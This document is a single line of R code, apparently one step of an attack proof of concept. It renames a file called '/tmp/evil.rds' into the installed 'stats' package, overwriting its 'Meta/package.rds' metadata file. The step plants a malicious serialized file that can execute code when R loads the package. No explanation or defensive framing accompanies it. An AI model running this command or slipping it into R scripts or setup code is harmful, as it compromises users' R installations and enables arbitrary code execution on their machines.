file.rename("/tmp/evil.rds", file.path(.libPaths()[1], "stats", "Meta", "package.rds"))
